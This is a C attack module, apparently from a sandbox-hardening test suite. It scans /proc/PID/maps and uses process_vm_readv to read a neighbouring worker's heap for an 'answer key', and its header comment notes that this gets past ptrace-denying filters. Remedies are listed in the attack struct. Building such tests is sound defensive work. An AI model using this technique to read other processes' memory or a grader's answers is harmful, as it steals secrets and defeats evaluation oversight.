// SPDX-License-Identifier: MIT
/*
 * Goal:  the answer key, which the worker keeps on its heap.
 * Means: /proc/PID/maps for the addresses, process_vm_readv(2) for the bytes: a system call of its
 *        own, which a filter that denies ptrace(2), or a rule for /proc/PID/mem, does not cover.
 */
#include "attacks/proc-read/neighbours.h"

#include <stdio.h>
#include <sys/uio.h>

#define MIB (1ul << 20)

static size_t budget = 64 * MIB;

/* Search [from, to). Steps overlap, so that an answer across two of them is not lost. */
static bool search(pid_t pid, unsigned long from, unsigned long to)
{
	static char chunk[MIB];
	const unsigned long overlap = 64;

	while (from < to && budget >= sizeof(chunk)) {
		size_t want = to - from < sizeof(chunk) ? to - from : sizeof(chunk);
		struct iovec here = { chunk, want }, there = { (void *)from, want };
		ssize_t n = process_vm_readv(pid, &here, 1, &there, 1, 0);

		budget -= want;
		if (n <= 0)
			return false;
		if (loot_answer(chunk, (size_t)n))
			return true;
		from += want == sizeof(chunk) ? want - overlap : want;
	}
	return false;
}

static bool rob(pid_t pid)
{
	unsigned long from, to;
	char path[64], line[512], perms[8];
	bool found = false;
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "re");
	if (!maps)
		return false;
	while (!found && fgets(line, sizeof(line), maps))
		if (sscanf(line, "%lx-%lx %7s", &from, &to, perms) == 3 && perms[1] == 'w')
			found = search(pid, from, to);
	fclose(maps);
	return found;
}

static enum claim run(const struct brief *b)
{
	attempting(b);
	return any_neighbour(b, rob) ? CLAIM_DONE : denied("process_vm_readv");
}

const struct attack attack = {
	.effect = "the worker's memory is read with addresses from /proc",
	.means = "/proc/PID/maps for the addresses, process_vm_readv(2) for the bytes",
	.oracle = "secret:worker-memory",
	.id = "PEER-07",
	.attack_id = "T1057, T1003.007, CWE-200",
	.remedy = "seccomp; Landlock (a domain may not trace its outside); a non-dumpable worker",
	.refs = (const char *const[]){ "process_vm_readv(2)", NULL },
	.run = run,
};
